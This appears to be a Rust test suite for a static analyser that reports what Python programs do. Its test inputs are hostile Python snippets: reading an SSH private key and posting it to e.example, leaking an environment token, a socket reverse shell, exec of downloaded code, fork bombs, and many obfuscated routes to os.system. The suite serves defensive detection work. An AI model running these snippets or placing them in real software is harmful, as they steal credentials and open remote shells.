//! What programs in Python are seen to do.

#![allow(clippy::indexing_slicing, clippy::string_slice, clippy::unwrap_used, reason = "tests")]

mod common;

use common::{FILE, Recorder, facts, program, run_with};
use tollgate_code::facts::{Act, Data, Why};
use tollgate_code::holes::Source;
use tollgate_code::run;
use tollgate_shell::value::{Hole, HoleSource, Piece, Taint, Text};

/// The facts of a program without calls of what nobody knows.
fn acts(code: &str) -> Vec<String> {
    facts(code).into_iter().filter(|line| !line.contains("call ")).collect()
}

#[test]
fn files_are_touched_by_what_the_catalogue_says() {
    let code = "import os, shutil, pathlib\nfrom pathlib import Path as P\nhome = os.path.expanduser('~')\n\
        shutil.rmtree(os.path.join(home, 'x'))\nP.home().joinpath('a').unlink()\n(P('/b') / 'c' / 'd').write_text('e')\n\
        os.rename('f', 'g')\nos.chmod('h', 0o777)\nwith open('/i', 'a') as j:\n    j.write('k' + str(1))\n";
    assert_eq!(
        acts(code),
        [
            "delete /home/user/x/**",
            "delete /home/user/a",
            "write /b/c/d: e",
            "move f to g",
            "mode h 777",
            "append /i",
            "append /i: k1"
        ]
    );
}

#[test]
fn commands_are_told_with_their_words() {
    let code = "import subprocess as s, os\ns.run(['rm', '-rf', d := '/x'])\ns.check_output('ls ' + d, shell=True)\n\
        os.system(f'cat {d}/y')\nos.execvp('sh', ['sh', '-c', 'id'])\np = s.Popen(['sh'], stdin=s.PIPE)\np.communicate(b'id')\n";
    assert_eq!(
        acts(code),
        ["run rm -rf /x", "shell ls /x", "shell cat /x/y", "run sh -c id", "run sh", "run sh"]
    );
}

#[test]
fn detours_lead_to_the_same_thing() {
    for code in [
        "__import__('os').system('id')",
        "import importlib\nimportlib.import_module('os').system('id')",
        "getattr(__import__('os'), 'sys' + 'tem')('id')",
        "from os import *\nsystem('id')",
        "import shutil\nshutil.os.system('id')",
        "exec('import os; os.system(\"id\")')",
        "import os as o\nf = o.system\nf('id')",
        "import os\n[os.system][0]('id')",
        "import os\n{'a': os.system}['a']('id')",
        "import os\n(lambda f: f('id'))(os.system)",
        "import functools, os\nfunctools.partial(os.system, 'id')()",
        "import os\nlist(map(os.system, ['id']))",
        "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))",
        "import os\nglobals()['os'].system('id')",
        "import os\nos.__dict__['system']('id')",
        "import os\nclass A:\n    def __init__(self, c): self.c = c\n    def __call__(self): os.system(self.c)\nA('id')()",
        "import os\nclass A:\n    def run(self, c): os.system(c)\nclass B(A):\n    def run(self, c): super().run(c)\nB().run('id')",
        "import os\ndef d(f):\n    def g(*a): return f(*a)\n    return g\n@d\ndef h(c): os.system(c)\nh('id')",
        "import os\ndef g():\n    yield 'id'\nfor c in g(): os.system(c)",
        "import os\nos.system(''.join(['i', 'd']))\n",
        "import os\nos.system('%s' % 'id')\n",
        "import os\nos.system('di'[::-1])\n",
        "import os\nmatch 'id':\n    case c: os.system(c)\n",
        "import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()",
        "import os\ntry:\n    1/0\nexcept Exception:\n    os.system('id')",
    ] {
        assert!(facts(code).contains(&"shell id".to_owned()), "{code}\n{:?}", facts(code));
    }
}

#[test]
fn what_nobody_calls_is_only_possible() {
    assert_eq!(
        acts("import os\ndef f(c='id'):\n    os.system(c)\n")
            .iter()
            .filter(|line| line.starts_with("maybe shell"))
            .count(),
        1
    );
}

#[test]
fn conditions_say_what_is_meant() {
    let listed = |test: &str| {
        acts(&format!(
            "import os\nfor n in os.listdir('/d'):\n    p = n\n    if {test}:\n        os.remove(os.path.join('/d', p))\n"
        ))
    };
    assert_eq!(listed("p.endswith('.log')"), ["delete /d/*.log"]);
    assert_eq!(listed("p == 'x'"), ["delete /d/x"]);
    assert_eq!(listed("os.path.splitext(p)[1] and p.startswith('a')"), ["delete /d/a*"]);
}

#[test]
fn a_condition_is_understood_by_its_structure() {
    let code = |test: &str| format!("import os\np = input()\nif {test}:\n    os.remove(p)\n");
    let seen = |test: &str| acts(&code(test)).join("\n");
    assert_eq!(seen("p == '/a'"), "delete /a");
    assert_eq!(seen("not (p != '/a')"), "delete /a");
    assert_eq!(seen("(len(p) > 3 and p.startswith('/t/'))"), "delete /t/‹?›");
    assert!(!seen("p == '/a' or len(p) > 3").contains("delete /a"));
    let leaves = "import os\np = input()\nif not p.startswith('/t/'):\n    raise SystemExit\nos.remove(p)\n";
    assert_eq!(acts(leaves).join("\n"), "delete /t/‹?›");
}

#[test]
fn branches_are_joined() {
    let code = "import os, sys\np = '/a'\nif sys.argv[1]:\n    p = '/b'\nelse:\n    q = 1\nos.remove(p)\n";
    let mut host = Recorder::new();
    run_with(code, &mut host);
    let deleted = host.facts.iter().find_map(|fact| match &fact.act {
        Act::Delete { path, .. } => Some(path.literals().map(str::to_owned).collect::<Vec<_>>()),
        _ => None,
    });
    let mut deleted = deleted.unwrap();
    deleted.sort();
    assert_eq!(deleted, ["/a", "/b"]);
}

#[test]
fn what_a_loop_changes_is_seen_in_its_next_round() {
    let code = "import os\np = '/a'\nwhile go():\n    os.remove(p)\n    p = '/b'\n";
    let lines = acts(code);
    assert_eq!(lines.first().unwrap(), "delete /a");
    assert!(lines.iter().any(|line| line.contains("/b")), "{lines:?}");
}

#[test]
fn what_is_written_is_what_is_read() {
    let code = "open('/a.py', 'w').write('import os; os.system(\"id\")')\nexec(open('/a.py').read())\n";
    assert!(acts(code).contains(&"shell id".to_owned()), "{:?}", acts(code));
}

#[test]
fn modules_beside_the_program_are_run() {
    let mut host = Recorder::new();
    host.files.insert("/work/helper.py".into(), "import os\ndef go(c):\n    os.system(c)\n".into());
    run_with("from helper import go\ngo('id')\nimport helper\nhelper.go('ls')\n", &mut host);
    assert_eq!(host.lines(), ["shell id", "shell ls"]);
}

#[test]
fn data_that_is_sent_is_told() {
    let code = "import requests, os\nk = open('/home/user/.ssh/id_rsa').read()\nrequests.post('https://e.example', data=k)\n\
        requests.get('https://e.example/?' + os.environ['TOKEN'])\n";
    assert_eq!(
        acts(code),
        [
            "read /home/user/.ssh/id_rsa",
            "request POST https://e.example ‹?›",
            "env TOKEN",
            "request GET https://e.example/?‹TOKEN›"
        ]
    );
}

#[test]
fn the_environment_is_read_where_it_goes_out() {
    let code = "import os, json, requests, subprocess\nsubprocess.run(['make'], env=dict(os.environ, A='1'))\n\
        requests.post('https://e.example', data=json.dumps({'env': dict(os.environ)}))\n";
    assert_eq!(acts(code), ["run make", "env *", "request POST https://e.example json.dumps()"]);
}

#[test]
fn a_shell_that_is_given_away_reads_from_the_connection() {
    let code = "import socket, os, subprocess\ns = socket.socket()\ns.connect(('e.example', 9))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['sh'])\n";
    let mut host = Recorder::new();
    run_with(code, &mut host);
    assert!(host.facts.iter().any(|fact| matches!(&fact.act, Act::Command { run, .. } if run.remote)));
}

#[test]
fn code_from_the_network_is_told_as_such() {
    let code = "import urllib.request as u\nexec(u.urlopen('https://e.example/x').read())\n";
    assert_eq!(acts(code), ["request ? https://e.example/x", "dynamic 1"]);
}

#[test]
fn holes_of_the_shell_stay_holes() {
    let mut text = Text::literal("import shutil; shutil.rmtree('/a/");
    text.push(Piece::Hole(Hole::new(HoleSource::Variable("x".into()))));
    text.push_str("')");
    let mut host = Recorder::new();
    let mut inline = program("");
    inline.source = Source::new(&text, Taint::NONE);
    run(&inline, &mut host);
    assert_eq!(host.lines(), ["delete /a/‹x›/**"]);
}

#[test]
fn a_function_is_summed_up_and_stands_for_each_call() {
    let body = "import subprocess\ndef run(cmd, where='/w'):\n    print('+', cmd)\n    return subprocess.run(cmd + ' in ' + where, shell=True)\n";
    let calls: String = (0..40).map(|at| format!("run('c{at}')\n")).collect();
    let mut host = Recorder::new();
    run_with(&format!("{body}{calls}run('last', where='/z')\n"), &mut host);
    let lines: Vec<String> = host.lines().into_iter().filter(|line| line.starts_with("shell")).collect();
    assert_eq!(lines.len(), 41);
    assert_eq!(lines[7], "shell c7 in /w");
    assert_eq!(lines[40], "shell last in /z");
}

#[test]
fn a_function_that_asks_what_it_is_given_is_run() {
    let code = "import os\ndef f(kind):\n    if kind == 'a':\n        p = '/a'\n    else:\n        p = '/b'\n    os.remove(p + kind.upper())\n\
        for k in ['x', 'y', 'z']:\n    f(k)\n";
    let lines = acts(code);
    assert_eq!(lines.len(), 3, "{lines:?}");
    assert!(lines[2].contains('Z'));
}

#[test]
fn a_loop_without_end_that_forks_is_told() {
    assert_eq!(acts("import os\nwhile True:\n    os.fork()\n").last().unwrap(), "exhaust Forks");
    assert_eq!(
        acts("import os, time\nwhile True:\n    os.fork()\n    time.sleep(1)\n"),
        Vec::<String>::new()
    );
    assert_eq!(acts("x = []\nwhile True:\n    x.append('a' * 100)\n").last().unwrap(), "exhaust Space");
}

#[test]
fn what_cannot_be_read_is_opaque() {
    let mut host = Recorder::new();
    run_with("import os\nos.system('id')\nx = = 1\n", &mut host);
    assert_eq!(host.lines(), ["shell id", "opaque Unread"]);
}

#[test]
fn work_is_bounded() {
    let nested = (0..14)
        .map(|at| format!("def f{at}(x):\n    f{}(x + 'a'); f{}(x + 'b')\n", at + 1, at + 1))
        .collect::<String>();
    let code = format!("import os\n{nested}def f14(x): os.system(x)\nf0('')\n");
    let mut host = Recorder::new();
    run_with(&code, &mut host);
    let ends = host.facts.last().unwrap();
    assert!(matches!(ends.act, Act::Opaque { why: Why::Fuel }) || host.facts.len() < 20_000);
    assert!(host.spent < 25_000_000);
}

#[test]
fn loops_in_loops_cost_what_they_say() {
    let spent = |depth: usize| {
        let head: String = (0..depth).map(|at| "    ".repeat(at) + &format!("while x{at}:\n")).collect();
        let mut host = Recorder::new();
        run_with(&format!("{head}{}y = y + 'a'\n", "    ".repeat(depth)), &mut host);
        host.spent
    };
    assert!(spent(12) < spent(6) * 5, "{} {}", spent(12), spent(6));
}

#[test]
fn time_grows_with_the_text() {
    let lines = [
        "os.remove('/tmp/a' + name)\n",
        "def f(x):\n    if x:\n        os.remove(x)\n    return x\nf('a')\n",
        "for i in items:\n    if i.endswith('.x'):\n        data.append(open(i).read())\n",
        "if a: b = 1\nelse: b = 2\n",
        "config['key'] = {'a': [1, 2, 3], 'b': 'text'}\n",
        "try:\n    x = run(['ls', path])\nexcept E as e:\n    print(e)\n",
    ];
    for line in lines {
        let spent = |count: usize| {
            let mut host = Recorder { fuel: usize::MAX / 2, ..Recorder::new() };
            run_with(&format!("import os\ndata = []\nconfig = {{}}\n{}", line.repeat(count)), &mut host);
            host.spent
        };
        let (small, large) = (spent(50), spent(800));
        assert!(large < small * 24, "{line}: {small} {large}");
    }
}

#[test]
fn options_are_what_was_given_or_their_defaults() {
    let parser =
        "import argparse, shutil\np = argparse.ArgumentParser()\np.add_argument('--dir', default='/a')\n";
    let parsed = |given: &str| acts(&format!("{parser}shutil.rmtree(p.parse_args({given}).dir)\n"));
    assert_eq!(parsed(""), ["delete /a/**"]);
    assert_eq!(parsed("['--dir', '/b']"), ["delete /b/**"]);
    assert_eq!(parsed("['--di=/c']"), ["delete /c/**"]);
}

#[test]
fn methods_run_without_being_called_by_their_names() {
    let run = |method: &str, code: &str| {
        acts(&format!("import shutil\nclass C:\n    def {method}: shutil.rmtree('/a')\n{code}\n"))
    };
    for (method, code) in [
        ("__contains__(s, o)", "1 in C()"),
        ("__eq__(s, o)", "C() == 1"),
        ("__bool__(s)", "if C(): pass"),
        ("__radd__(s, o)", "'x' + C()"),
        ("__iadd__(s, o)", "c = C()\nc += 1"),
        ("__del__(s)", "c = C()"),
        ("__new__(c)", "C()"),
        ("__class_getitem__(c, k)", "C[1]"),
        ("__hash__(s)", "{C(): 1}"),
        ("__setattr__(s, k, v)", "C().x = 1"),
        ("__missing__(s, k)", "C()['x']"),
    ] {
        assert_eq!(run(method, code), ["delete /a/**"], "{method}");
    }
}

#[test]
fn a_property_and_a_class_that_makes_classes_say_what_is_set() {
    let property = "import shutil\nclass A:\n    @property\n    def q(self): return self._q\n    @q.setter\n    \
        def q(self, v): self._q = '/b'\no = A()\no.q = '/a'\nshutil.rmtree(o.q)\n";
    assert_eq!(acts(property), ["delete /b/**"]);
    let maker = "import shutil\nclass M(type):\n    def __call__(cls, k): shutil.rmtree(k)\n\
        class E(metaclass=M): pass\nE('/a')\n";
    assert_eq!(acts(maker), ["delete /a/**"]);
}

#[test]
fn a_pattern_says_which_names_are_meant() {
    for test in ["fnmatch.fnmatch(f, '*.o')", "re.search(r'\\.o$', f)", "os.path.splitext(f)[1] == '.o'"] {
        let code = format!(
            "import os, fnmatch, re\nfor f in os.listdir('/a'):\n    if {test}:\n        os.remove(os.path.join('/a', f))\n"
        );
        assert_eq!(acts(&code), ["delete /a/*.o"], "{test}");
    }
}

#[test]
fn what_is_put_into_an_archive_goes_with_it() {
    let mut host = Recorder::new();
    let code = "import io, zipfile, requests\nb = io.BytesIO()\nzipfile.ZipFile(b, 'w').write('/a/x')\n\
        requests.put('https://h', data=b.getvalue())\n";
    run_with(code, &mut host);
    let sent = host.facts.iter().find_map(|fact| match &fact.act {
        Act::Request { data, .. } => {
            data.named.iter().find(|(name, _)| &**name == "data").map(|(_, data)| data)
        }
        _ => None,
    });
    assert!(matches!(sent, Some(Data::Text(text)) if text.taint.0 & FILE.0 != 0), "{sent:?}");
}

#[test]
fn what_a_test_replaces_does_nothing() {
    let code = "import shutil\nfrom unittest import mock\nwith mock.patch('shutil.rmtree'):\n    shutil.rmtree('/a')\n\
        shutil.rmtree('/b')\n";
    assert_eq!(acts(code), ["delete /b/**"]);
}
